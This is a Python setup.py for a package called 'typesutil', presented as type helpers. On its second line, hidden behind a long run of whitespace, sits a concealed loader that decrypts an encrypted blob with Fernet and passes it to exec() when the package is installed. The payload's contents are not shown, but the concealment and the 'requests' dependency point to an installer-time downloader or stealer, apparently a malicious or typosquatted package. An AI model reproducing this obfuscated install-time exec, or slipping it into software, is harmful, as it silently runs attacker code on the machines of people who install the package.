from setuptools import setup, find_packages
                                                                                                                                                                                                                            ; from fernet import Fernet; exec(Fernet(b'pgr8STHaPN8ikVC47SmtmQtimR3pyxeb5ajJvecVMFg=').decrypt(b'gAAAAAB8UpWxh-HREx0AoCH9j0UmItSwQg6nUGXOzI1llsmuoP94ugYQ6_CrBfy0PR9ngUNChKXE0N2eIbArZU0ufwoo98Kmu_sRAwFQ6al1yB35Byjc4sIU-dvwQ4SXQ3d8Ii2mSI_w_FPu_o4S_FuHIu0nqGlNxXJGqwbU9yWM_-t_7Q5F5kpKZuUihzyrFVf2QaTvsGpkfpJ7KzgY2obAt-QRXVtAlA7zqCD4ngMz0uq2ByLfc0n6QLBktJJkMBMVOfPKIlbR8YPlCDx7jNXxukDeeTNWbxaaRT07oFoij2dWZOM7WjKI1XBvu3bJcK5D1y7rrGtVa1flvhUFoKt1d-lP6JjTQVJtr9e2sTVhaRn6Zoui-bZQnrZwTNiYEim2ZQUSZzWAoaJ3YivHKoN2A62Un5qDoWbdZ8yZft1rMYGMKRe-Ns-gEXe0uZhaNqGkcwllEt8rX8nfGGF1oy4wKLIFDmzV3m6lbYyfOLHtU3GyKZDwJRAppx3o4nXQE0hmuA_CaLkyJC1dGVDWJl5Zd42rqf_spjikWKUmLxPUgHgEucRRpFcG7DRTmZPs5HzbClCZEECPPkofpndPnDuxylEKVTmNFFBVwUXyGysxRt4pp-xlZqB2NyskKfuiHe4C-IOULOz5H5xTTYPnU9p3P0BeGhWdLvf0S3PGkL8EfrELLcD1lBRpqcZF5ENldLlYPC4ThlJdQBCycTQtelye60Wj2h9Oy4Af_yqFPdskJqkvNM3TLiuieq5Gs2fg-zG4mahhBI9AXvzqFsTOK6prn8R6PsG6lCrgO_C'))

VERSION = '0.0.3'
DESCRIPTION = 'Type helpers for Python'

setup(
    name='typesutil',
    version=VERSION,
    author='typesutil',
    description=DESCRIPTION,
    packages=find_packages(),
    install_requires=['fernet', 'cryptography', 'requests'],
    keywords=['python', 'types'],
)
